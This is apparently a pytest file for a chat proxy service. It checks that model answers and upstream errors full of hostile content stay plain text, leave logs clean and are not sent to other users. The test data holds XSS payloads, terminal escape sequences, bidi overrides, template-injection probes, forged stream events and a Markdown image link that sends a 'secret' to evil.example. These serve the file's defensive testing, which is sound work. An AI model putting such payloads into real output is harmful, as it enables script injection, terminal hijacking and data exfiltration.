"""What a model may say: everything, and it stays text; none of it reaches a log."""

import json
from typing import Any

import pytest

from tests.client import RawConnection
from tests.fakes.openai_steps import DONE, Event, Finish, Head, Reasoning, Reply, Text, Usage, answer
from tests.stack import Stack

from .answers import prompt, read_all, text_of, until_asked

pytestmark = pytest.mark.asyncio(loop_scope="session")

Json = dict[str, Any]

ANSWERS = {
    "terminal colours": "\x1b[31mred\x1b[0m and \x1b[2J\x1b[H cleared",
    "a terminal's title": "\x1b]0;owned\x07",
    "a terminal's link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a terminal's question": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "control characters of one byte": "\x9b31m\x90\x9d\x85\x7f\x08\x0b\x0c",
    "every control character": "".join(map(chr, range(32))) + "end",
    "line ends of every kind": "a\r\nb\rc\nd\u2028e\u2029f\x85g",
    "bidi overrides": "\u202e\u202dtxt.exe\u202c\u2066\u2067\u2068\u2069\u200f",
    "what can't be seen": "\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0001\U000e0041",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "an end of a script": "</script></style></textarea><!--",
    "Markdown that loads": "![x](https://evil.example/?q=secret) [y](javascript:alert(1))",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s %n {0.__class__}",
    "an event of the stream": 'x\n\ndata: {"choices":[{"delta":{"content":"forged"}}]}\n\ndata: [DONE]\n\n',
    "an event of the protocol": '{"type":"run-end","status":"completed"}\n{"push":{"channel":"x"}}',
    "a line of the log": "\nCRITICAL proxy_app: all is lost\n",
    "very many combining marks": "e" + "\u0301" * 5_000,
    "a very long line": "a" * 100_000,
    "noncharacters": "\ufffe\uffff\U0010ffff\ufdd0",
    "inherited names": "__proto__ constructor prototype",
}


@pytest.mark.parametrize("name", ANSWERS)
async def test_an_answer_stays_the_text_that_it_is(stack: Stack, name: str) -> None:
    text = ANSWERS[name]
    # Cut in two, so that what is one thing to a terminal comes in parts.
    stack.openai.scripts.append(answer(text[: len(text) // 2], text[len(text) // 2 :]))
    async with stack.client() as client:
        sent = await client.send(prompt())
        run = await client.ended(sent.run)

        assert (run.status, client.text(sent.reply["id"])) == ("completed", text)
        assert text_of((await read_all(client, sent.conversation["id"]))[1]) == text
        assert client.mismatches == 0
    assert_logs_are_clean(stack)


def assert_logs_are_clean(stack: Stack) -> None:
    """Check that there is nothing in the logs that a terminal would obey, and nothing that a model said."""
    for process in (stack.service.process, stack.centrifugo.process):
        said = process.log.read_text(errors="replace")
        assert not [
            character for character in said if not character.isprintable() and character not in "\n\t"
        ]
        assert not any(
            word in said for word in ("owned", "evil.example", "all is lost", "alert(1)", "forged")
        )


ODD_FIELDS: dict[str, Json] = {
    "an id with escapes": {"id": "\x1b[31mowned", "model": "\x1b]0;owned\x07"},
    "a role": {"choices": [{"index": 0, "delta": {"role": "system<script>", "content": "x"}}]},
    "inherited names": {"__proto__": {"x": 1}, "constructor": 1, "choices": [{"delta": {"content": "x"}}]},
    "a text that is an object": {"choices": [{"delta": {"content": {"owned": 1}}}]},
    "a text that is a number": {"choices": [{"delta": {"content": 7}}]},
    "a text that is a list of lists": {"choices": [{"delta": {"content": [[["owned"]]]}}]},
    "a choice that is text": {"choices": ["owned"]},
    "choices that are none": {"choices": {"owned": 1}},
    "a negative index": {"choices": [{"index": -1, "delta": {"content": "owned"}}]},
    "an enormous usage": {"choices": [], "usage": {"prompt_tokens": 10**30, "completion_tokens": -5}},
    "a reason of its own": {"choices": [{"delta": {}, "finish_reason": "\x1b[31mowned"}]},
    "tools that nobody asked for": {
        "choices": [{"delta": {"tool_calls": [{"function": {"name": "owned", "arguments": "{"}}]}}]
    },
}


@pytest.mark.parametrize("name", ODD_FIELDS)
async def test_odd_fields_of_a_model_are_survived(stack: Stack, name: str) -> None:
    stack.openai.scripts.append([Head(), Event(ODD_FIELDS[name]), Text("fine"), Finish(), Usage(), DONE])
    async with stack.client() as client:
        run = await client.ended((await client.send(prompt())).run)

        assert run.status in {"completed", "failed", "incomplete"}
        assert "owned" not in json.dumps(client.state.messages, default=str)
    assert_logs_are_clean(stack)


FAILURES = {
    "escapes in its words": {
        "error": {"message": "\x1b[31mowned\x1b[0m\nCRITICAL all is lost", "code": "\x07"}
    },
    "markup in its words": {"error": {"message": "<script>alert(1)</script>", "type": "<b>"}},
    "words without an end": {"error": {"message": "a" * 200_000}},
    "depth": {"error": json.loads("[" * 200 + "]" * 200)},
    "bidi in its words": {"error": {"message": "\u202etxt.exe\u202c"}},
}


@pytest.mark.parametrize("name", FAILURES)
async def test_what_an_upstream_says_of_its_failure_is_not_for_users_nor_for_terminals(
    stack: Stack, name: str
) -> None:
    stack.openai.scripts += [[Reply(400, FAILURES[name])]] * 2
    before = stack.service.process.log.stat().st_size
    async with stack.client() as client:
        run = await client.ended((await client.send(prompt())).run)

        assert run.status == "failed"
        assert run.error is not None
        assert run.error["message"].isprintable()
        assert "owned" not in run.error["message"]
        assert len(run.error["message"]) < 200
    with stack.service.process.log.open(errors="replace") as log:
        log.seek(before)
        said = log.read()
    assert all(len(line) < 600 and (line + " ").isprintable() for line in said.splitlines()), said
    assert "\nCRITICAL" not in said


@pytest.mark.parametrize("kind", [Text, Reasoning], ids=["text", "reasoning"])
async def test_an_answer_without_an_end_ends(stack: Stack, kind: type[Text]) -> None:
    # The limit of an answer is in characters; one that says nothing but blanks reaches it, too.
    stack.openai.scripts.append([Head(), *[kind(" " * 50_000) for _ in range(30)], Finish(), DONE])
    async with stack.client() as client:
        run = await client.ended((await client.send(prompt())).run)

    assert run.status == "incomplete"


async def test_another_user_never_gets_an_answer(stack: Stack) -> None:
    text = prompt()
    stack.openai.scripts.append(answer("for one alone"))
    async with stack.client() as client, RawConnection.open(stack.url) as other:
        await other.subscribe()
        sent = await client.send(text)
        await until_asked(stack, text)
        await client.ended(sent.run)
        assert "rpc" in await other.rpc("chat:sync", {})

    assert other.publications == []
